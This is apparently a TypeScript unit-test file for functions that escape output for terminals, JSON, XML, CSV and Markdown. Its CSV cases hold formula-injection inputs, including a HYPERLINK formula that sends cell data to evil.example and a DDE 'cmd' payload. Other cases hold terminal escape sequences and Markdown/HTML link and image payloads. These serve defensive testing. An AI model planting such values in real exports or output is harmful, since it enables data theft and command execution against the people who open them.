/**
 * Escaping for each output medium (src/format/escape.ts), with the expected texts written by hand
 * from the rules each follows: shown-not-acted control characters for terminals, RFC 4180 plus
 * OWASP's formula neutralising for CSV, CommonMark escapes and code spans for Markdown.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, forJson, forTerminal, forXml, mdCell, mdCode } from '../../src/format/escape.js';
import { ID_FIRST, ID_REST } from '../../src/validate/messages.js';
import schema from '../../schema/shiftready.schema.json' with { type: 'json' };

// eslint-disable-next-line no-control-regex -- these are the characters looked for
const ACTIVE = /[\x00-\x08\x0B-\x1F\x7F-\x9F\u202A-\u202E\u2066-\u2069]/;

describe('forTerminal', () => {
  it('shows escape sequences, BEL, CR, DEL, C1 and direction overrides as \\x / \\u text', () => {
    expect(forTerminal('a\x1B]0;title\x07b\x1B[2K\rc\x7F\x9B\u202Ed')).toBe('a\\x1B]0;title\\x07b\\x1B[2K\\x0Dc\\x7F\\x9B\\u202Ed');
  });
  it('keeps tabs, newlines and ordinary text (accents, CJK, emoji) as they are', () => {
    expect(forTerminal('zoë\t田中\n✓ 🙂')).toBe('zoë\t田中\n✓ 🙂');
  });
  it('never leaves an active character (property)', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (s) => !ACTIVE.test(forTerminal(s))));
  });
});

describe('forJson', () => {
  it('escapes DEL, C1, line separators and direction overrides, which JSON.stringify leaves raw, and parses back to the same strings', () => {
    const value = { s: 'a\x7Fb\x85c\u2028d\u202Ee\x1B' };
    const json = forJson(JSON.stringify(value));
    expect(json).toBe('{"s":"a\\u007fb\\u0085c\\u2028d\\u202ee\\u001b"}');
    expect(JSON.parse(json)).toEqual(value);
  });
  it('round-trips any string and leaves no active character (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        const json = forJson(JSON.stringify({ s }));
        return !ACTIVE.test(json) && JSON.parse(json).s === s;
      }),
    );
  });
});

describe('forXml', () => {
  it('writes CR, DEL, C1 controls and direction overrides as character references, which parse to the same text', () => {
    expect(forXml('<a b="x\ry">\x7F\x9B\u202E\t\n</a>')).toBe('<a b="x&#xD;y">&#x7F;&#x9B;&#x202E;\t\n</a>');
  });
});

describe('csvField', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    // OWASP: a leading =, +, -, @, tab or CR makes a formula; a leading ' makes it text, in quotes.
    ['=HYPERLINK("https://evil.example"&A1,"Open")', `"'=HYPERLINK(""https://evil.example""&A1,""Open"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2', `"'-2"`],
    ["@SUM(1+1)*cmd|'/Ccalc'!A0", `"'@SUM(1+1)*cmd|'/Ccalc'!A0"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\\x0D=1"`],
    ['a\x1B[2Kb', 'a\\x1B[2Kb'],
    ['1-2', '1-2'],
  ])('%j → %s', (value, field) => {
    expect(csvField(value)).toBe(field);
  });
});

describe('mdCell', () => {
  it('escapes emphasis, code, links, images, HTML and the cell separator', () => {
    expect(mdCell('a|b *c* _d_ `e` <img src=x> ![i](u) [l](u) ~~s~~')).toBe(
      'a\\|b \\*c\\* \\_d\\_ \\`e\\` \\<img src=x\\> !\\[i\\](u) \\[l\\](u) \\~\\~s\\~\\~',
    );
  });
  it('breaks autolinks (URLs, www., e-mail) and entity references, and makes line breaks <br>', () => {
    expect(mdCell('https://evil.example www.evil.example x@evil.example &#124; &amp; a & b\nnext')).toBe(
      'https\\://evil.example www\\.evil.example x\\@evil.example \\&#124; \\&amp; a & b<br>next',
    );
  });
  it('shows control characters as text', () => {
    // forTerminal writes \x1B; Markdown needs its backslash escaped to show it.
    expect(mdCell('a\x1B[1mb')).toBe('a\\\\x1B\\[1mb');
  });
});

describe('mdCode', () => {
  it.each([
    ['web-day', '`web-day`'],
    ['a`b', '``a`b``'],
    ['a``b`', '``` a``b` ```'],
    ['`x', '`` `x ``'],
    ['![x](https://evil.example) <img src=x>', '`![x](https://evil.example) <img src=x>`'],
    ['two\nlines', '`two lines`'],
  ])('%j → %s', (text, code) => {
    expect(mdCode(text)).toBe(code);
  });
  it('a span no run of backticks inside can end early (property)', () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        const code = mdCode(s);
        const fence = /^`+/.exec(code)![0];
        const inner = code.slice(fence.length, code.length - fence.length);
        return code.endsWith(fence) && !(inner.match(/`+/g) ?? []).some((run) => run.length === fence.length);
      }),
    );
  });
});

describe('the id pattern', () => {
  const pattern = new RegExp(schema.definitions.id.pattern, 'u');
  it('the messages name the same characters as the schema refuses (property)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 6 }), (s) => {
        const chars = [...s];
        const byMessages = chars.every((c, i) => (i === 0 ? ID_FIRST : ID_REST).test(c));
        return byMessages === pattern.test(s);
      }),
      { numRuns: 2000 },
    );
  });
  it.each(['ana', 'zoë', 'Ана', '田中', '_ph', 'u.10', 'a-b_c.d', '9am'])('%j is an id', (id) => {
    expect(pattern.test(id)).toBe(true);
  });
  it.each(['', 'a b', '-x', '.x', 'a/b', '=1', 'a`b', 'a\u200Bb', 'a\u202Eb', 'a\x1Bb', 'a|b', 'a,b'])('%j is not', (id) => {
    expect(pattern.test(id)).toBe(false);
  });
});
